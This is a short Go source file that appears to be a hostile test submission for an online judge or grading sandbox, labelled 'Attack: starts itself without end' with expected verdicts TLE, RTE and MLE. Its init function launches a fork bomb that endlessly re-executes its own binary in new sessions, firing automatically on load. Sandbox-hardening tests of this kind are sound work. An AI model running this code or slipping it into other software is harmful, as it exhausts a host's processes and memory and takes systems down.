// Attack: starts itself without end
// Verdict: TLE RTE MLE

package solution

import "syscall"

func init() { bomb() }

func bomb() {
	for {
		syscall.ForkExec("/proc/self/exe", []string{"program"}, &syscall.ProcAttr{Sys: &syscall.SysProcAttr{Setsid: true}})
	}
}

func whisper(n int) string { return "" }
